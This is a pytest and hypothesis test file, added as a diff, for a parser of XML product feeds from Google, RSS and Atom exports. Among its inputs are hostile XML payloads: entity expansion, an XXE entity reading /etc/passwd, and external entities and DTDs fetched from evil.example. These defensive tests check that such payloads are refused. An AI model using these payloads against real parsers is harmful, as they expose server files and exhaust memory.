@@ -1,0 +1,456 @@
+"""Product feeds in XML, as merchants and shop systems export them."""
+
+import codecs
+import itertools
+import tracemalloc
+from collections.abc import Iterable, Iterator
+from io import BufferedReader, BytesIO, RawIOBase
+from typing import TYPE_CHECKING
+from xml.sax.saxutils import escape
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from socialapi.bulk.inputs.feed_xml import MAX_ITEM_BYTES, READ_BYTES, Item, looks_like_xml, read_items
+from socialapi.bulk.inputs.reader import NoRows
+from socialapi.errors import InvalidInput
+
+if TYPE_CHECKING:
+    from _typeshed import WriteableBuffer
+
+GOOGLE = b"""<?xml version="1.0" encoding="UTF-8"?>
+<rss xmlns:g="http://base.google.com/ns/1.0" version="2.0">
+  <channel>
+    <title>Northwind</title>
+    <link>https://shop.example</link>
+    <description>All there is</description>
+    <item>
+      <g:id>NW-1</g:id>
+      <title>Ridge jacket &amp; hood</title>
+      <g:description><![CDATA[Made <b>to last</b> &amp; repaired.]]></g:description>
+      <link>https://shop.example/nw-1?a=1&amp;b=2</link>
+      <g:image_link>https://shop.example/nw-1.jpg</g:image_link>
+      <g:additional_image_link>https://shop.example/nw-1a.jpg</g:additional_image_link>
+      <g:additional_image_link>https://shop.example/nw-1b.jpg</g:additional_image_link>
+      <g:availability>in_stock</g:availability>
+      <g:price>189.00 EUR</g:price>
+      <g:shipping>
+        <g:country>DE</g:country>
+        <g:price>4.95 EUR</g:price>
+      </g:shipping>
+      <g:shipping>
+        <g:country>AT</g:country>
+        <g:price>9.95 EUR</g:price>
+      </g:shipping>
+      <g:gtin/>
+    </item>
+    <item>
+      <g:id>NW-2</g:id>
+    </item>
+  </channel>
+</rss>
+"""
+
+
+class Pieces(RawIOBase):
+    """A file that is made while it is read, in pieces of any size."""
+
+    def __init__(self, pieces: Iterable[bytes]) -> None:
+        self._pieces = iter(pieces)
+        self._rest = b""
+
+    def readable(self) -> bool:
+        return True
+
+    def readinto(self, buffer: "WriteableBuffer") -> int:
+        self._rest = self._rest or next(self._pieces, b"")
+        view = memoryview(buffer).cast("B")
+        size = min(len(view), len(self._rest))
+        view[:size] = self._rest[:size]
+        self._rest = self._rest[size:]
+        return size
+
+
+def opened(content: str | bytes) -> BufferedReader:
+    return BufferedReader(Pieces([content.encode() if isinstance(content, str) else content]))
+
+
+def items(content: str | bytes) -> list[Item]:
+    return [item for item, _ in read_items(opened(content))]
+
+
+def read_until_fault(file: BufferedReader) -> tuple[int, str]:
+    """How many items there were before the fault, and what it says."""
+    count = 0
+    try:
+        for _ in read_items(file):
+            count += 1
+    except InvalidInput as fault:
+        return count, fault.message
+    raise AssertionError("nothing was refused")
+
+
+def fault(content: str | bytes) -> str:
+    return read_until_fault(opened(content))[1]
+
+
+def rss(*fields: str, start: str = '<rss xmlns:g="http://base.google.com/ns/1.0"><channel>') -> str:
+    return start + "".join(f"<item>{each}</item>" for each in fields) + "</channel></rss>"
+
+
+def test_a_google_export_gives_names_without_prefixes_lists_of_what_is_repeated_and_lines() -> None:
+    assert list(read_items(opened(GOOGLE))) == [
+        (
+            {
+                "title": "Ridge jacket & hood",
+                "link": "https://shop.example/nw-1?a=1&b=2",
+                "id": "NW-1",
+                "description": "Made <b>to last</b> &amp; repaired.",
+                "image_link": "https://shop.example/nw-1.jpg",
+                "additional_image_link": ["https://shop.example/nw-1a.jpg", "https://shop.example/nw-1b.jpg"],
+                "availability": "in_stock",
+                "price": "189.00 EUR",
+                "shipping.country": ["DE", "AT"],
+                "shipping.price": ["4.95 EUR", "9.95 EUR"],
+            },
+            7,
+        ),
+        ({"id": "NW-2"}, 27),
+    ]
+
+
+def test_a_plugin_of_a_shop_may_give_everything_in_cdata_and_names_that_no_product_has() -> None:
+    content = rss(
+        "<g:id><![CDATA[woocommerce_gpf_12]]></g:id><title><![CDATA[Mug, 2 < 3]]></title>"
+        '<guid isPermaLink="false">https://shop.example/?p=12</guid><dc:date>2026-01-01</dc:date>'
+        "<g:price><![CDATA[9.50 ]]><![CDATA[EUR]]></g:price><g:identifier_exists>no</g:identifier_exists>"
+    )
+    assert items(content) == [
+        {
+            "guid@isPermaLink": "false",
+            "guid": "https://shop.example/?p=12",
+            "dc:date": "2026-01-01",
+            "title": "Mug, 2 < 3",
+            "id": "woocommerce_gpf_12",
+            "price": "9.50 EUR",
+            "identifier_exists": "no",
+        }
+    ]
+
+
+@pytest.mark.parametrize(
+    "start",
+    [
+        '<rss xmlns:g="http://base.google.com/ns/1.0"><channel>',
+        '<rss xmlns:g="https://base.google.com/ns/1.0/"><channel>',
+        '<rss xmlns:g="http://base.google.com/"><channel>',
+        "<rss><channel>",
+    ],
+)
+def test_the_prefix_g_is_googles_however_it_is_declared_and_even_if_it_is_not(start: str) -> None:
+    assert items(rss("<g:id>1</g:id><g:price>2 EUR</g:price>", start=start)) == [{"id": "1", "price": "2 EUR"}]
+
+
+def test_any_prefix_that_is_declared_as_googles_is_googles() -> None:
+    declared = '<rss xmlns:base="http://base.google.com/ns/1.0"><channel>'
+    assert items(rss("<base:id>1</base:id>", start=declared)) == [{"id": "1"}]
+    late = '<x:id xmlns:x="http://base.google.com/ns/1.0">1</x:id><x:price>2</x:price><y:price>3</y:price>'
+    assert items(rss(late)) == [{"id": "1", "price": "2", "y:price": "3"}]
+    alone = '<title>plain</title><title xmlns="http://base.google.com/ns/1.0">own</title><price xmlns="">2</price>'
+    assert items(rss(alone)) == [{"title": "own", "price": "2"}]
+
+
+def test_googles_element_is_preferred_to_a_plain_one_of_the_same_name_unless_it_is_blank() -> None:
+    assert items(rss("<title>a</title><g:title>b</g:title>", "<g:title>b</g:title><title>a</title>")) == [
+        {"title": "b"},
+        {"title": "b"},
+    ]
+    assert items(rss("<title>a</title><g:title> </g:title>")) == [{"title": "a"}]
+
+
+def test_rss_1_has_its_items_beside_the_channel() -> None:
+    content = """<?xml version="1.0"?>
+<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
+         xmlns:g="http://base.google.com/ns/1.0">
+  <channel rdf:about="https://shop.example/feed"><title>Shop</title>
+    <items><rdf:Seq><rdf:li rdf:resource="https://shop.example/1"/></rdf:Seq></items></channel>
+  <item rdf:about="https://shop.example/1"><title>Mug</title><link>https://shop.example/1</link><g:id>1</g:id></item>
+</rdf:RDF>"""
+    assert list(read_items(opened(content))) == [({"title": "Mug", "link": "https://shop.example/1", "id": "1"}, 6)]
+
+
+ATOM = """<?xml version="1.0"?>
+<feed xmlns="http://www.w3.org/2005/Atom" xmlns:g="http://base.google.com/ns/1.0">
+  <title>Shop</title><link rel="self" href="https://shop.example/feed"/><id>tag:shop.example,2026:feed</id>
+  <author><name>Shop</name></author>
+  <entry>
+    <id>{id}</id><title type="html">Mug</title>
+    <link href="https://shop.example/1"/><link rel="enclosure" href="https://shop.example/1.mp3"/>
+    {more}<updated>2026-01-01T00:00:00Z</updated>
+  </entry>
+</feed>"""
+ATOM_ITEM = {
+    "title": "Mug",
+    "link": "https://shop.example/1",
+    "link@rel": "enclosure",
+    "link@href": "https://shop.example/1.mp3",
+    "updated": "2026-01-01T00:00:00Z",
+}
+
+
+def test_in_atom_a_link_is_its_address_and_the_summary_is_the_description() -> None:
+    content = ATOM.format(id="1a", more="<summary>Enamel</summary><content>Long</content>")
+    assert items(content) == [ATOM_ITEM | {"id": "1a", "description": "Enamel", "content": "Long"}]
+    own = ATOM.format(id="1a", more="<summary>Enamel</summary><g:description>Own</g:description>")
+    assert items(own) == [ATOM_ITEM | {"id": "1a", "description": "Own", "summary": "Enamel"}]
+
+
+@pytest.mark.parametrize("address", ["https://shop.example/1", "tag:shop.example,2026:1", "urn:uuid:1"])
+def test_in_atom_an_id_that_is_an_address_is_not_the_id_of_the_product(address: str) -> None:
+    assert items(ATOM.format(id=address, more="<g:id>1a</g:id>")) == [ATOM_ITEM | {"id": "1a", "atom:id": address}]
+    assert items(ATOM.format(id=address, more="")) == [ATOM_ITEM | {"atom:id": address}]
+
+
+def test_markup_in_a_description_is_left_out_and_its_text_stays() -> None:
+    xhtml = (
+        '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Made <b class="x">to</b> last</div></content>'
+    )
+    assert items(ATOM.format(id="1", more=xhtml))[0]["description"] == "Made to last"
+    assert items(rss("<description>a <br/>b</description><g:id>1</g:id>")) == [{"description": "a b", "id": "1"}]
+
+
+def test_a_feed_whose_elements_all_have_a_prefix_is_read_without_it() -> None:
+    content = (
+        '<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:entry><a:title>Mug</a:title><g:id>1</g:id></a:entry></a:feed>'
+    )
+    assert items(content) == [{"title": "Mug", "id": "1"}]
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "<products><product><id>1</id><name>Mug</name></product></products>",
+        "<items><item><id>1</id><name>Mug</name></item></items>",
+        "<Shop><Info>x</Info><Products><Product><id>1</id><name>Mug</name></Product></Products></Shop>",
+        "<channel><title>t</title><item><id>1</id><name>Mug</name></item></channel>",
+    ],
+)
+def test_a_list_of_products_under_one_root_is_a_feed(content: str) -> None:
+    assert items(content) == [{"id": "1", "name": "Mug"}]
+
+
+def test_attributes_are_kept_under_names_that_no_field_has() -> None:
+    content = '<products><product id="1" xml:lang="en"><price currency="EUR">9.50</price></product></products>'
+    assert items(content) == [{"@id": "1", "price@currency": "EUR", "price": "9.50"}]
+
+
+def test_elements_within_a_field_never_have_the_name_of_a_field() -> None:
+    nested = "<g:a>x<g:price>1</g:price>y<g:b><g:price>2</g:price></g:b></g:a><g:price>3</g:price>"
+    assert items(rss(nested)) == [{"a": ["x", "y"], "a.price": ["1", "2"], "price": "3"}]
+
+
+def test_an_item_within_an_item_belongs_to_it() -> None:
+    assert items("<products><product><id>1</id><item><id>2</id></item></product></products>") == [
+        {"id": "1", "item.id": "2"}
+    ]
+
+
+def test_an_item_without_anything_in_it_is_an_item() -> None:
+    assert items(rss("", "text", "<g:id>1</g:id>")) == [{}, {}, {"id": "1"}]
+
+
+@pytest.mark.parametrize(
+    ("declared", "codec", "mark"),
+    [
+        ("UTF-8", "utf-8", b""),
+        ("UTF-8", "utf-8", codecs.BOM_UTF8),
+        ("UTF-16", "utf-16-le", codecs.BOM_UTF16_LE),
+        ("UTF-16", "utf-16-be", codecs.BOM_UTF16_BE),
+        ("ISO-8859-1", "iso-8859-1", b""),
+        ("windows-1252", "windows-1252", b""),
+        ("iso-8859-15", "iso-8859-15", b""),
+        ("utf-16", "utf-8", b""),  # what a text in memory is declared as, saved as UTF-8
+    ],
+)
+def test_the_text_is_in_the_encoding_that_the_feed_declares(declared: str, codec: str, mark: bytes) -> None:
+    text = f'<?xml version="1.0" encoding="{declared}"?>' + rss("<title>Kännchen</title>")
+    content = mark + text.encode(codec)
+    assert looks_like_xml(content)
+    assert items(content) == [{"title": "Kännchen"}]
+
+
+def test_blanks_and_lines_before_the_declaration_are_passed_over_and_counted() -> None:
+    blanks = b"\xef\xbb\xbf \r\n\n" + b" " * (READ_BYTES * 2) + b"\n"
+    assert list(read_items(opened(blanks + GOOGLE)))[1] == ({"id": "NW-2"}, 30)
+    assert looks_like_xml(b"\xef\xbb\xbf\r\n<rss>")
+    broken = b"\n\n" + GOOGLE.replace(b"</channel>", b"</chanel>")
+    assert fault(broken) == "line 32, column 5: is the end of an element that is not open here"
+
+
+def test_a_document_type_without_declarations_may_stand_before_the_feed() -> None:
+    assert items("<!DOCTYPE rss>" + rss("<g:id>1</g:id>")) == [{"id": "1"}]
+
+
+LAUGHS = '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>' + rss("<title>&b;</title>")
+XXE = '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + rss("<title>&x;</title>")
+PARAMETER = '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>' + rss("")
+EXTERNAL = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://evil.example/rss.dtd">' + rss("")
+DEFAULTS = "<!DOCTYPE rss [<!ATTLIST item a CDATA 'x'>]>" + rss("")
+
+
+@pytest.mark.parametrize("content", [LAUGHS, XXE, PARAMETER, EXTERNAL, DEFAULTS])
+def test_declarations_and_references_to_other_files_are_refused(content: str) -> None:
+    assert fault(content).endswith(
+        "the document type has declarations or refers to another file, which are not read: remove it"
+    )
+
+
+@pytest.mark.parametrize(
+    ("content", "says"),
+    [
+        (rss("<title>a & b</title>"), "line 1, column 71: is not well-formed XML; in a text, & is written &amp;"),
+        (rss("<title>a&nbsp;b</title>"), "line 1, column 69: an entity that XML does not know, such as &nbsp;"),
+        (rss("<title>K\xe4nnchen</title>").encode("latin-1"), "line 1, column 69: is not text in the encoding that"),
+        ('<?xml version="1.0" encoding="shift_jis"?><rss/>', "the file is in an encoding that is not known here: save"),
+        ('<?xml version="1.0" encoding="klingon"?><rss/>', "the file is in an encoding that is not known here: save"),
+        (rss("") + "<rss/>", "line 1, column 84: nothing is expected after the end of the feed"),
+        (rss("<a b='' b=''/>"), "line 1, column 69: an attribute is there twice"),
+        ("<!DOCTYPE html><html></html>", "this is a web page, not a product feed"),
+        ("<html><body><item>x</item></body></html>", "this is a web page, not a product feed"),
+        ("<urlset><url><loc>https://shop.example</loc></url></urlset>", "this is XML, but no product feed: RSS ("),
+        ("id,title\n1,Mug\n", "line 1, column 1: is not well-formed XML"),
+        ("", "the file is empty"),
+    ],
+)
+def test_what_is_no_feed_is_refused_with_the_place_and_the_reason(content: str | bytes, says: str) -> None:
+    assert fault(content)[: len(says)] == says
+
+
+@pytest.mark.parametrize("content", [rss(), "<feed></feed>", "<products/>", "<rdf:RDF/>"])
+def test_a_feed_without_items_has_no_rows(content: str) -> None:
+    with pytest.raises(NoRows) as empty:
+        items(content)
+    assert empty.value.message == "the feed has no items"
+
+
+def test_the_items_before_a_fault_are_handed_out_first() -> None:
+    for at in (GOOGLE.index(b"<g:id>NW-2"), GOOGLE.index(b"</channel>"), len(GOOGLE) - 3):
+        count, says = read_until_fault(opened(GOOGLE[:at]))
+        assert count == (1 if at < GOOGLE.index(b"</channel>") else 2)
+        assert says.endswith(
+            "the file ends here, before the end of the feed: it was cut off while it was written or copied"
+        )
+
+
+@given(st.integers(0, len(GOOGLE)))
+def test_a_feed_that_was_cut_off_anywhere_never_looks_whole(at: int) -> None:
+    try:
+        found = items(GOOGLE[:at])
+    except InvalidInput:
+        return
+    assert found == items(GOOGLE)
+    assert not GOOGLE[at:].strip()
+
+
+@given(st.binary(max_size=200), st.integers(0, len(GOOGLE)))
+@example(b"\x00", 100)
+@example(b"\xff\xfe", 0)
+def test_whatever_stands_in_a_feed_it_is_read_or_refused_and_nothing_else(debris: bytes, at: int) -> None:
+    try:
+        for item, line in read_items(opened(GOOGLE[:at] + debris + GOOGLE[at:])):
+            assert line > 0
+            assert all(isinstance(text, str | list) for text in item.values())
+    except InvalidInput:
+        return
+
+
+TEXTS = st.text(st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff"), min_size=1)
+
+
+@given(st.lists(TEXTS.map(str.strip).filter(bool), min_size=1, max_size=5), st.integers(1, 40))
+def test_texts_come_back_as_they_were_written_however_the_file_is_divided(texts: list[str], size: int) -> None:
+    content = rss("".join(f"<g:x>{escape(text)}</g:x>" for text in texts)).encode()
+    pieces = [content[at : at + size] for at in range(0, len(content), size)]
+    ((item, line),) = read_items(BufferedReader(Pieces(pieces)))
+    assert (item, line) == ({"x": texts if len(texts) > 1 else texts[0]}, 1)
+
+
+def peak_bytes(pieces: Iterable[bytes]) -> tuple[int, str, int]:
+    """The items before the fault, what it says, and the memory that Python's objects took."""
+    tracemalloc.start()
+    try:
+        count, says = read_until_fault(BufferedReader(Pieces(pieces)))
+        return count, says, tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+
+
+START = b"<rss><channel><item><g:id>1</g:id></item>"
+LONG = b"x" * 65_536
+
+
+def endless(*start: bytes, piece: bytes) -> Iterator[bytes]:
+    return itertools.chain((START, *start), itertools.repeat(piece))
+
+
+def names(form: bytes) -> Iterator[bytes]:
+    yield START
+    for number in itertools.count():
+        yield form % number
+
+
+@pytest.mark.parametrize(
+    ("pieces", "says"),
+    [
+        (endless(b"<item><title>", piece=LONG), "line 1: a product is longer than 1,048,576 bytes"),
+        (endless(b"<item><title><![CDATA[", piece=LONG), "line 1: a product is longer than 1,048,576 bytes"),
+        (endless(b"<item>", piece=b"<a/>" * 1000), "line 1: a product is longer than 1,048,576 bytes"),
+        (endless(b"<item>", piece=b"<a>x</a>" * 1000), "line 1: a product is longer than 1,048,576 bytes"),
+        (endless(b"<!-- ", piece=LONG), "a tag or a comment is longer than 1,048,576 bytes"),
+        (endless(b"<", piece=LONG), "a tag or a comment is longer than 1,048,576 bytes"),
+        (endless(b"<item a='", piece=LONG), "a tag or a comment is longer than 1,048,576 bytes"),
+        (endless(piece=b"<a>" * 1000), "elements are nested more than 100 deep"),
+        (endless(b"<item>", piece=b"<a>" * 1000), "elements are nested more than 100 deep"),
+        (names(b"<a%d/>"), "there are too many different names of elements and attributes"),
+        (
+            names(b"<item><a%d>x</a%d></item>".replace(b"</a%d>", b"<a/></a>")),
+            "is the end of an element that is not open",
+        ),
+        (names(b"<item b%d='x'/>"), "there are too many different names of elements and attributes"),
+        (endless(b"<item><" + b"n" * 300 + b">x</" + b"n" * 300 + b">", piece=b""), "is longer than 256 characters"),
+    ],
+)
+def test_nothing_in_a_feed_takes_more_memory_than_a_bound(pieces: Iterator[bytes], says: str) -> None:
+    _, said, peak = peak_bytes(pieces)
+    assert says in said
+    assert peak < 32 * MAX_ITEM_BYTES
+
+
+def test_an_endless_text_between_items_is_passed_over_in_constant_memory() -> None:
+    count, _, peak = peak_bytes(itertools.chain((START,), itertools.repeat(LONG, 400)))
+    assert count == 1
+    assert peak < 2 * MAX_ITEM_BYTES
+
+
+def test_a_feed_on_one_line_may_have_any_number_of_items() -> None:
+    item = b"<item><g:id>%d</g:id><g:title>" + b"t" * 500 + b"</g:title></item>"
+    content = itertools.chain((START,), (item % number for number in range(20_000)), (b"</channel></rss>",))
+    assert sum(1 for _ in read_items(BufferedReader(Pieces(content)))) == 20_001
+
+
+def test_an_item_may_have_as_much_text_as_the_bound_and_no_more() -> None:
+    around = len(b"<item><title></title>")
+    most = MAX_ITEM_BYTES - around
+    (found,) = items(rss(f"<title>{'t' * most}</title>"))
+    assert len(found["title"]) == most
+    assert fault(rss(f"<title>{'t' * (most + 1)}</title>")) == "line 1: a product is longer than 1,048,576 bytes"
+
+
+@pytest.mark.parametrize("head", [b"id,title", b'{"id": 1}', b"", b"   ", b"PAR1", b"< 3"])
+def test_tables_and_json_do_not_look_like_xml(head: bytes) -> None:
+    assert not looks_like_xml(head)
+
+
+def test_a_file_in_memory_is_read_as_well() -> None:
+    assert len(list(read_items(BufferedReader(BytesIO(GOOGLE))))) == 2
